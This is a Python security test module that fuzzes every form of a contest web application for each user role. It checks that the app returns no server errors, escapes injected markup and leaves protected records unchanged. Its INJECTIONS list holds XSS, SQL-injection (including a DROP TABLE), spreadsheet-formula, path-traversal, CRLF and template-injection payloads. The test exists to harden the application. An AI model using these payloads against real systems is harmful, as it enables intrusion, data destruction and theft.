"""Bad input on every form: random Unicode, huge strings, control characters and injection strings.

Each role opens every page it may open (the access matrix says which), the <form>s on them are read, and
hypothesis posts random values into their fields.  The answer must be a 4xx with a message or a success —
never a 500 — and afterwards every page still renders (stored text does not break a page), injected markup
shows escaped, and the records this role must not touch are unchanged.
"""

from __future__ import annotations

import io
import re
import time

import pytest
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st
from sqlalchemy import select

from contest.extensions import db
from contest.models import Entry, ResultSet, ScoreSheet, User
from tests.security.forms import Field, Form, forms_in
from tests.security.test_access_matrix import _expected
from tests.security.urls import build_url, classify, rules
from tests.security.world import build_world

MARKER = '<script>alert("xss-fuzz")</script>'
INJECTIONS = [
    MARKER,
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "'; DROP TABLE entries; --",
    '=HYPERLINK("http://example.invalid/?x="&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "nul\x00byte",
    "\x1b[31mđỏ\x1b[0m",
    "\u202eTệp.pdf.exe",
    "\r\nSet-Cookie: x=1",
    "{{ 7*7 }}",
    "${7*7}",
    "1e309",
    "-1",
    "99999999999999999999999",
    "NaN",
    "31/02/2025",
    "Đổi mới sáng tạo – Vì Thái Nguyên thân yêu 🌱",
    " ",
    "",
]
HUGE = st.sampled_from([1_000, 20_000, 200_000]).map(lambda n: ("Ư" * n))
TEXT = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=200),
    st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x1F), max_size=40),
    HUGE,
)
# The roles whose forms are fuzzed, each in its own world.
FUZZ_ROLES = ("anonymous", "owner", "judge_assigned", "organizer", "committee")
SKIP_ACTIONS = re.compile(r"/tai-khoan/dang-xuat$|/ngon-ngu/")  # logging out would end the walk
EXAMPLES_PER_FORM = 3
# Bounded so the whole module stays near two minutes; the forms are taken in page order.
ROLE_BUDGET_SECONDS = {"organizer": 40}
DEFAULT_BUDGET_SECONDS = 8


def _value(draw, f: Field) -> object:
    """A value for one field: mostly hostile, sometimes the page's own (so deeper code runs too)."""
    if draw(st.integers(0, 3)) == 0:
        if f.options:
            return draw(st.sampled_from(f.options))
        return f.value
    return draw(TEXT)


def _pages(app, world, role: str) -> list[str]:
    urls = []
    for rule in rules(app):
        if "GET" in rule.methods and _expected(rule.endpoint, "GET", role) == "ok" and not rule.arguments & {"fmt"}:
            if re.search(r"download|export|pdf|chart|xlsx|reliability", rule.endpoint) or "xuat" in rule.rule:
                continue  # files, not pages with forms
            urls.append(build_url(rule, world))
    return urls


def _forms(client, pages: list[str]) -> list[Form]:
    found: dict[str, Form] = {}
    for page in pages:
        response = client.get(page)
        if response.status_code == 200 and response.mimetype == "text/html":
            for form in forms_in(page, response.get_data(as_text=True)):
                if not SKIP_ACTIONS.search(form.action):
                    found.setdefault(form.action, form)
    return list(found.values())


def _snapshot(role: str, world) -> dict:
    """What this role must never change, whatever it posts."""
    other = db.session.get(Entry, world.ids["other_entry_id"])
    owner_entry = db.session.get(Entry, world.ids["entry_id"])
    published = db.session.get(ResultSet, world.ids["published_rs_id"])
    state = {
        "other_entry": (other.title, other.summary, other.status, other.version),
        "users": sorted((u.id, u.email, u.password_hash) for u in db.session.scalars(select(User))
                        if role == "anonymous" or u.id != world.users[role].id),
    }
    if role != "owner":
        state["owner_entry"] = (owner_entry.title, owner_entry.summary, owner_entry.description)
    if role != "organizer":
        state["published"] = (published.status, published.input_hash)
    if role != "judge_assigned":
        state["sheets"] = sorted((s.id, s.status, s.private_note,
                                  s.version) for s in db.session.scalars(select(ScoreSheet)))
    db.session.expire_all()
    return state


def _post(client, form: Form, values: dict[str, object]):
    if form.multipart:
        data = {}
        for name, value in values.items():
            f = form.fields[name]
            if f.kind == "file":
                text = str(value)
                data[name] = (io.BytesIO(text.encode("utf-8", "surrogatepass")), text[:300] or "tep.pdf")
            else:
                data[name] = value
        return client.post(form.action, data=data, content_type="multipart/form-data")
    return client.post(form.action, data=values)


def _fuzz_form(client, form: Form, role: str, problems: list[str], examples: int, round_no: int) -> None:
    names = [n for n in form.fields if n != "csrf_token"]

    @seed(round_no)
    @settings(max_examples=examples, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.data())
    def post_random(data) -> None:
        values = {n: _value(data.draw, form.fields[n]) for n in names}
        response = _post(client, form, values)
        if classify(response) == "5xx":
            problems.append(f"{role} POST {form.action} → {response.status_code} with {values!r:.300}")
        elif response.status_code >= 400 and response.mimetype == "text/html":
            body = response.get_data(as_text=True)
            if not re.search(r"<(p|h1|li|div)[^>]*>[^<]{3,}", body):
                problems.append(f"{role} POST {form.action} → {response.status_code} without a message")
        if response.mimetype == "text/html" and MARKER in response.get_data(as_text=True):
            problems.append(f"{role} POST {form.action} shows the injected script unescaped")

    post_random()


@pytest.mark.parametrize("role", FUZZ_ROLES)
def test_fuzz_every_form(app, client, auth, role):
    world = build_world()
    if role != "anonymous":
        auth.as_(world.users[role])
    pages = _pages(app, world, role)
    forms = _forms(client, pages)
    assert forms, "no forms found"
    before = _snapshot(role, world)
    problems: list[str] = []
    deadline = time.monotonic() + ROLE_BUDGET_SECONDS.get(role, DEFAULT_BUDGET_SECONDS)

    # Rounds over all the forms, so each gets its turn before any gets more (fixed seeds: reproducible).
    fuzzed, round_no = 0, 0
    while time.monotonic() < deadline and round_no < 10:
        for form in forms:
            if time.monotonic() > deadline:
                break
            _fuzz_form(client, form, role, problems, EXAMPLES_PER_FORM if round_no else 1, round_no)
            fuzzed += round_no == 0
        round_no += 1
    assert fuzzed >= min(len(forms), 4), f"only {fuzzed} of {len(forms)} forms fuzzed in the time budget"

    for page in pages:
        response = client.get(page)
        if response.status_code >= 500:
            problems.append(f"{role} GET {page} → {response.status_code} after the fuzzing")
        elif response.mimetype == "text/html" and MARKER in response.get_data(as_text=True):
            problems.append(f"{role} GET {page} shows stored markup unescaped")
    assert not problems, "\n".join(problems[:40])
    assert _snapshot(role, world) == before
